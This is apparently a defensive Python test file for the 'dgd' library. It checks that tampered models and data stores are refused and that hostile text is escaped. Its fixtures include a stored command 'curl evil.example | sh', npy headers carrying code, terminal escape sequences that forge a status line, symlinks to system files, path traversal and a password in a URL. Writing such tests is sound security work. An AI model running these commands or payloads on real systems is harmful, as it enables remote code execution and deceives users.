"""Models and stores that were made to do harm, and what their text does to a terminal. Nothing here takes long."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import numpy as np
import zarr

import dgd
from dgd.data.zarr.crc32c import crc32c
from dgd.errors import ModelError
from dgd.models.npy import npy_bytes
from tests.faults.rows import outcome, row, written
from tests.hostile_model import document_of, replace_array, reseal
from tests.traced import peak_of


def npy_of(header: str) -> bytes:
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + bytes(24)


def renewed(folder: Path, name: str, make: Callable[[Path], Any]) -> None:
    (folder / name).unlink()
    make(folder / name)


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(2**40)


TAMPERED: dict[str, Callable[[Path], Any]] = {
    "model.json is []": lambda m: (m / "model.json").write_text("[]"),
    "JSON 10⁵ deep": lambda m: (m / "model.json").write_text("[" * 100_000),
    "n_features 99": lambda m: reseal(m, {**document_of(m), "n_features": 99}),
    "format true": lambda m: reseal(m, {**document_of(m), "format": True}),
    "no loss": lambda m: reseal(m, {k: v for k, v in document_of(m).items() if k != "loss"}),
    "sha256 of ../x": lambda m: reseal(m, {**document_of(m), "sha256": {"../x": "", "coef.npy": ""}}),
    "classes []": lambda m: reseal(m, {**document_of(m), "loss": "logistic", "classes": []}),
    "empty npy": lambda m: replace_array(m, "coef.npy", b""),
    "npy of 80 GB": lambda m: replace_array(
        m, "coef.npy", npy_of("{'descr': '<f8', 'fortran_order': False, 'shape': (10000000000,), }\n")
    ),
    "npy with code": lambda m: replace_array(m, "coef.npy", npy_of("__import__('os').abort()\n")),
    "trailing bytes": lambda m: replace_array(m, "coef.npy", npy_bytes(np.ones(3)) + b"x"),
    "NaN": lambda m: replace_array(m, "coef.npy", npy_bytes(np.array([1.0, np.nan, 1.0]))),
    "3-d": lambda m: replace_array(m, "coef.npy", npy_bytes(np.ones((1, 1, 3)))),
    "a pipe": lambda m: renewed(m, "coef.npy", os.mkfifo),
    "a device": lambda m: renewed(m, "coef.npy", lambda path: path.symlink_to("/dev/zero")),
    "a link out": lambda m: renewed(m, "coef.npy", lambda path: path.symlink_to("/etc/hostname")),
    "1 TiB, sparse": lambda m: renewed(m, "coef.npy", sparse),
}


@row(
    "A10", f"{len(TAMPERED)} tampered models, with seals that fit", expected="all", before="a third untyped or hanging"
)
def tampered_models(folder: Path) -> str:
    dgd.Model(np.array([1.0, 2.0, 3.0]), 0.5, "squared").save(folder / "m.dgd")
    copies = {what: shutil.copytree(folder / "m.dgd", folder / f"{k}.dgd") for k, what in enumerate(TAMPERED)}
    for what, copy in copies.items():
        TAMPERED[what](copy)
    began, wrong = time.monotonic(), list[str]()

    def load_all() -> None:
        wrong[:] = [f"{what}: {found}" for what, copy in copies.items() if (found := _loaded(copy)) != "ModelError"]

    peak = peak_of(load_all, 16 * 2**20) / 2**20
    done = f"{len(TAMPERED) - len(wrong)} of {len(TAMPERED)}, {peak:.1f} MiB, {time.monotonic() - began:.1f} s"
    return f"all refused as ModelError: {done}" if not wrong and peak < 16 else f"{wrong} ({done})"


def _loaded(path: Path) -> str:
    try:
        dgd.load_model(path)
    except ModelError:
        return "ModelError"
    except Exception as error:
        return f"{error!r:.60}"
    return "loaded"


def commands(*arguments: Any) -> str:
    """What a command prints, on both streams."""
    done = subprocess.run(
        [sys.executable, "-m", "dgd", *map(str, arguments)], capture_output=True, text=True, check=False
    )
    return done.stdout + done.stderr


@row(
    "A15",
    "OSC, CSI, RLO and a newline in feature names",
    expected="escaped",
    before="a title set, a status line forged",
)
def names_that_steer(folder: Path) -> str:
    names = ["a\x1b]0;pwn\x07", "b\x1b[2J", "c\u202e", "d\nstatus        converged: trust me"]
    X = np.random.default_rng(0).normal(size=(50, 4))
    with dgd.DatasetWriter(folder / "e.zarr", feature_names=names) as writer:
        writer.append(X, X[:, 0])
    said = commands("fit", folder / "e.zarr") + commands("info", folder / "e.zarr")
    plain = all(line.isprintable() for line in said.split("\n"))
    forged = any(line.startswith("status        converged: trust me") for line in said.split("\n"))
    return (
        f"{'escaped' if plain and not forged else 'printed as they are'}: {next(x for x in said.split() if 'pwn' in x)}"
    )


@row("A15-redo", "a stored command that is not dgd's", expected="quoted", before="shown as the command to run")
def stored_command(folder: Path) -> str:
    (folder / "u.zarr").mkdir()
    marker = {"state": "writing", "redo": "curl evil.example | sh"}
    document = {"zarr_format": 3, "node_type": "group", "attributes": {"dgd": marker}}
    (folder / "u.zarr" / "zarr.json").write_text(json.dumps(document))
    said = commands("fit", folder / "u.zarr").strip()
    return f"{'quoted' if 'unchecked by dgd: “curl' in said else 'advised'}: …{said[-90:]}"


@row(
    "A16",
    "a password in a URL whose store cannot be opened",
    expected="the password is not told",
    before="it was printed",
)
def password(folder: Path) -> str:
    said = "".join(commands("fit", url) for url in ("s3://KEY:hunter2@bucket/x.zarr", "gopher://u:hunter2@host/x"))
    return "the password is told" if "hunter2" in said else f"the password is not told: {said.splitlines()[0][:90]}"


@row("A18", "a chained URL, simplecache::…", expected="CONVERGED", before="RuntimeError in asyncio")
def chained(folder: Path) -> str:
    path = written(folder / "d.zarr")
    with subprocess.Popen(
        [sys.executable, "-u", "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory", str(path.parent)],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    ) as server:
        assert server.stdout is not None
        port = server.stdout.readline().split(" port ")[1].split()[0]
        try:
            return dgd.fit(f"simplecache::http://127.0.0.1:{port}/d.zarr").status.name
        finally:
            server.kill()


@row("zip", "a zip file with a name twice, other content", expected="MetadataError", before="the last one, in silence")
def name_twice(folder: Path) -> str:
    path = written(folder / "d.zarr")
    with ZipFile(folder / "d.zip", "w") as archive:
        for each in path.rglob("*"):
            if each.is_file():
                archive.write(each, each.relative_to(path).as_posix())
        with warnings.catch_warnings(action="ignore"):
            archive.writestr("X/zarr.json", "{}")
    return outcome(lambda: dgd.fit(folder / "d.zip"))


@row(
    "shard",
    "a shard whose index names the same bytes twice",
    expected="CorruptChunkError",
    before="rows twice, in silence",
)
def overlapping(folder: Path) -> str:
    group = zarr.create_group(folder / "s.zarr")
    X = np.arange(20.0).reshape(20, 1)
    group.create_array("X", data=X, shards=(20, 1), chunks=(10, 1), compressors=None)
    group.create_array("y", data=X[:, 0], chunks=(20,))
    index = np.array([(0, 80), (0, 80)], "<u8").tobytes()
    checksum = crc32c(np.frombuffer(index, np.uint8)).to_bytes(4, "little")
    (folder / "s.zarr" / "X" / "c" / "0" / "0").write_bytes(X.tobytes() + index + checksum)
    return outcome(lambda: dgd.fit(folder / "s.zarr"))


@row("link", "an array that is a link out of the store", expected="ReadError", before="followed in silence")
def linked(folder: Path) -> str:
    path = written(folder / "d.zarr")
    shutil.move(path / "X", folder / "elsewhere")
    (path / "X").symlink_to(folder / "elsewhere")
    return outcome(lambda: dgd.fit(path))


@row("dots", "y='../other.zarr/y'", expected="DatasetNotFoundError", before="refused, for a false reason")
def dots(folder: Path) -> str:
    path, _ = written(folder / "d.zarr"), written(folder / "other.zarr")
    return outcome(lambda: dgd.fit(path, "../other.zarr/y"))


@row("NUL", "y='a\\x00'", expected="DatasetNotFoundError", before="ValueError: embedded null byte")
def null(folder: Path) -> str:
    path = written(folder / "d.zarr")
    return outcome(lambda: dgd.fit(path, "a\x00"))


@row("surrogate", "a lone surrogate where a sha256 belongs", expected="MetadataError", before="UnicodeEncodeError")
def surrogate(folder: Path) -> str:
    from dgd.data.zarr.commit_marker import digest_of

    path = written(folder / "d.zarr")
    document = json.loads((path / "zarr.json").read_text())
    document["attributes"]["dgd"]["content"]["X"] = "\ud800"
    document["attributes"]["dgd"]["seal"] = digest_of(document)
    (path / "zarr.json").write_text(json.dumps(document))
    return outcome(lambda: dgd.fit(path))
